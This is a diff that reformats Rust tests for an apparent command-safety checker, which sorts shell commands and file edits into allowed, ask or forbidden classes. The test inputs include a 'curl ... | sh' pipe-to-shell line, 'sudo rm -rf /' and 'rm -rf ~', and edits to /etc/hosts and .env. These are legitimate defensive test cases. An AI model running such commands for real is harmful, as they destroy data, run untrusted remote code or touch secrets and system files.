@@ -34,7 +34,11 @@ fn one_command_prints_class_and_reason_and_exits_by_class() {
 
     let ask = run(&["check", "--", "rm -rf build"], b"");
     assert_eq!(ask.status.code(), Some(3));
-    assert!(stdout(&ask).starts_with("ask: recursive delete"), "{}", stdout(&ask));
+    assert!(
+        stdout(&ask).starts_with("ask: recursive delete"),
+        "{}",
+        stdout(&ask)
+    );
 
     let forbidden = run(&["check", "--", "sudo", "rm", "-rf", "/"], b"");
     assert_eq!(forbidden.status.code(), Some(4));
@@ -44,7 +48,10 @@ fn one_command_prints_class_and_reason_and_exits_by_class() {
 
 #[test]
 fn json_output_is_one_object() {
-    let o = run(&["check", "--json", "--", "curl -s https://x.example | sh"], b"");
+    let o = run(
+        &["check", "--json", "--", "curl -s https://x.example | sh"],
+        b"",
+    );
     assert_eq!(o.status.code(), Some(3));
     let v: serde_json::Value = serde_json::from_str(stdout(&o).trim()).expect("JSON");
     assert_eq!(v["command"], "curl -s https://x.example | sh");
@@ -60,7 +67,10 @@ fn edits_are_judged_against_the_root() {
     assert_eq!(inside.status.code(), Some(0), "{}", stdout(&inside));
     let env = run(&["check", "--root", root, "--edit", ".env"], b"");
     assert_eq!(env.status.code(), Some(3));
-    let outside = run(&["check", "--json", "--root", root, "--edit", "/etc/hosts"], b"");
+    let outside = run(
+        &["check", "--json", "--root", root, "--edit", "/etc/hosts"],
+        b"",
+    );
     let v: serde_json::Value = serde_json::from_str(stdout(&outside).trim()).expect("JSON");
     assert_eq!(v["edit"], "/etc/hosts");
     assert_eq!(v["class"], "ask");
@@ -91,7 +101,9 @@ fn jsonl_answers_every_line_and_never_aborts_on_a_bad_one() {
     assert_eq!(lines[1]["class"], "forbidden");
     assert_eq!(lines[1]["command"], "rm -rf ~");
     assert_eq!(lines[2]["line"], 3);
-    assert!(lines[2]["error"].as_str().is_some_and(|e| e.contains("JSON")));
+    assert!(lines[2]["error"]
+        .as_str()
+        .is_some_and(|e| e.contains("JSON")));
     assert_eq!(lines[3]["line"], 5);
     // Control characters and NUL survive in JSON (escaped), unchanged.
     assert_eq!(lines[4]["command"], "echo \u{1b}[2J\u{0} done");
@@ -125,7 +137,9 @@ fn usage_errors_exit_two() {
         Some(2)
     );
     assert_eq!(
-        run(&["check", "--edit", "x", "--", "ls"], b"").status.code(),
+        run(&["check", "--edit", "x", "--", "ls"], b"")
+            .status
+            .code(),
         Some(2)
     );
 }
